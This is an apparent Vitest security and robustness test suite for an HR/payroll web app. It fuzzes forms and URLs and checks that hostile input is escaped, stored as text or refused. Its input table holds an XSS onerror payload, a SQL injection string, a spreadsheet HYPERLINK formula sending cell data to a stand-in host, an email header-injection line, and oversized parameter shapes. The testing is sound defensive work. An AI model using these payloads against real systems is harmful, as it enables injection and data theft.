import { beforeAll, expect, test } from "vitest";
import { PERMISSIONS } from "~/domain/settings/permissions";
import { createAddressedCompany, postAddressOf } from "./support/addressed-company";
import { signIn, Visitor } from "./support/app";
import { grantPermissions } from "./support/company";
import { addressedRoutes, fillPattern, type BuiltRoute } from "./support/routes";

// cspell:ignore שלום تاريخ

/** Unexpected values that people and programs send in form fields. */
const MARKUP = `<img src=x onerror="alert('kawani')">`;
const HOSTILE: Record<string, string> = {
  "50 KB": "N".repeat(50_000),
  "right to left": "\u202Eتاريخ ١٢٣ \u2066שלום\u2069",
  emoji: "👩🏽‍🍳🇵🇭💸".repeat(5),
  NUL: "Ana\u0000Reyes\u0000",
  controls: "a\u0001b\u001b[31m\r\nBcc: someone@elsewhere.test",
  HTML: MARKUP,
  formula: `=HYPERLINK("https://elsewhere.test?"&A1,"Open")`,
  SQL: `'); drop table employees; -- %00 \${1+1} {{7*7}}`,
  "a number beyond all": `${"9".repeat(400)}.99`,
  "not a number": "NaN",
  "below zero": "-1",
  "a day beyond all": "99999-99-99",
  nothing: "",
};
const KINDS = Object.values(HOSTILE);
/** With numbers and choices unchanged, the texts get as far as the table. */
const STORED_AS_TYPED = /Seq$|revision|^step$|Type$|Yn$|idempotencyKey/;
/** Ends the visit, streams, or is for programs with a token (tests/routes/flex_ben/usage-api.test.ts). */
const LEFT_OUT = ["/logout", "/preferences/two-factor", "/api/flex_ben/reversals", "/api/flex_ben/usages", "/api/time/punches"];

let visitor: Visitor;
let csrf: string;
let values: Record<string, string | number>;

beforeAll(async () => {
  const made = await createAddressedCompany();
  values = { ...made.values, token: `1.${"t".repeat(43)}` };
  await grantPermissions(made.company.scope.companySeq, PERMISSIONS);
  visitor = await signIn(made.company.email);
  csrf = await visitor.token();
});

/** Every field of a page's forms, with its current value. */
async function parsePostForms(route: BuiltRoute): Promise<{ fields: Map<string, string>; multipart: boolean }> {
  const page = route.reads && route.page ? (await visitor.request(fillPattern(route.pattern, values))).text : "";
  const controls = page.match(/<(?:input|select|textarea)\b[^>]*\bname="[^"]+"[^>]*>/g) ?? [];
  const named = controls.map((control): [string, string] => [
    /\bname="([^"]+)"/.exec(control)![1]!,
    /\bvalue="([^"]*)"/.exec(control)?.[1] ?? "",
  ]);
  return {
    fields: new Map(named.filter(([name]) => !["csrf", "returnTo"].includes(name))),
    multipart: page.includes('encType="multipart/form-data"') || page.includes('enctype="multipart/form-data"'),
  };
}

/** As a multipart form sends it. */
function multipartOf(fields: Record<string, string>): FormData {
  const form = new FormData();
  for (const [name, value] of Object.entries({ csrf, ...fields })) form.append(name, value);
  return form;
}

test("any form input is stored as text or refused, shown as text, and breaks nothing", { timeout: 180_000 }, async () => {
  const wrong: string[] = [];
  let posts = 0;
  for (const route of addressedRoutes.filter(({ writes, pattern }) => writes && !LEFT_OUT.includes(pattern))) {
    const { fields, multipart } = await parsePostForms(route);
    // Each round gives each field another kind of value.
    for (const turn of [0, 3, 7, 10]) {
      const form = Object.fromEntries(
        [...fields, ["somethingElse", ""]].map(([name, value], index) => [
          name,
          turn > 0 && STORED_AS_TYPED.test(name!) && value !== "" ? value : KINDS[(turn + index) % KINDS.length]!,
        ]),
      );
      posts += 1;
      const answer = await visitor
        .request(postAddressOf(route, values), multipart ? { body: multipartOf(form) } : { form, csrf })
        .catch(() => null);
      // An oversized body may be refused before it is complete; a small form always gets a response.
      if (
        answer === null
          ? JSON.stringify(form).length < 50_000
          : answer.status >= 500 || answer.status === 401 || answer.text.includes(MARKUP)
      )
        wrong.push(`POST ${route.pattern} in turn ${turn}: ${answer?.status ?? "no answer"}`);
    }
  }
  expect(posts).toBeGreaterThan(200);
  expect(wrong).toEqual([]);
});

test("no URL breaks a page", { timeout: 180_000 }, async () => {
  const wrong: string[] = [];
  const questions = [
    "q",
    "page",
    "sort",
    "pageSize",
    "status",
    "department",
    "mode",
    "startDate",
    "startSearchDate",
    "endSearchDate",
    "schType",
    "schKeyword",
    "search",
    "view",
    "month",
    "next",
    "tab",
    "step",
  ];
  for (const route of addressedRoutes.filter(
    ({ reads, pattern }) => reads && !LEFT_OUT.includes(pattern) && !pattern.startsWith("/streams/"),
  )) {
    for (const turn of [1, 5]) {
      const query = new URLSearchParams(questions.map((name, index) => [name, KINDS[1 + ((turn + index) % (KINDS.length - 1))]!]));
      const { status, text } = await visitor.request(`${fillPattern(route.pattern, values)}?${query}`);
      if (status >= 500 || text.includes(MARKUP))
        wrong.push(`GET ${route.pattern} in turn ${turn}: ${status}${text.includes(MARKUP) ? ", unescaped" : ""}`);
    }
  }
  expect(wrong).toEqual([]);
});

// covers: NAV-48
test("any unknown URL is 404 inside the layout", async () => {
  // No database text can contain NUL, so a URL with it is refused before any route.
  expect((await visitor.request("/%00")).status).toBe(400);
  for (const address of [
    "/nowhere/%F0%9F%92%B8",
    "/payroll/payroll_processing/%3Cscript%3E",
    "/employees/employees/0",
    "/employees/employees/99999999999",
    `/${"a".repeat(3_000)}`,
  ]) {
    const { status, text } = await visitor.request(address);
    expect([address.slice(0, 60), status, text.includes('<aside class="sidebar">')]).toEqual([address.slice(0, 60), 404, true]);
  }
});

test("a small post that names millions of places, or an address of a thousand fields, is refused at once, signed in or not", async () => {
  const stranger = new Visitor();
  const token = await stranger.token();
  const shapes: [string, string][][] = [
    [["email[75000000]", "1"]],
    Array.from({ length: 20_000 }, (): [string, string] => ["a", ""]),
    Array.from({ length: 30_000 }, (_, index): [string, string] => [`p[${index}000]`, "1"]),
    [[`a${".a".repeat(20_000)}`, "1"]],
  ];
  for (const [who, address, held] of [
    [stranger, "/login", token],
    [visitor, "/organization/department/new", csrf],
  ] as const) {
    for (const form of shapes) {
      const began = process.cpuUsage();
      const { status, text } = await who.request(address, { form, csrf: held });
      expect([address, form.length, status]).toEqual([address, form.length, 400]);
      expect(text.length).toBeLessThan(100_000);
      // CPU time in microseconds: wall time would measure the load of the machine.
      expect(process.cpuUsage(began).user).toBeLessThan(2_000_000);
    }
  }
  for (const query of [`q=${"&a=".repeat(1_001)}`, "q[75000000]=1", "q=%00", `${"n".repeat(201)}=1`]) {
    expect([query.slice(0, 20), (await visitor.request(`/employees/employees?${query}`)).status]).toEqual([query.slice(0, 20), 400]);
  }
});
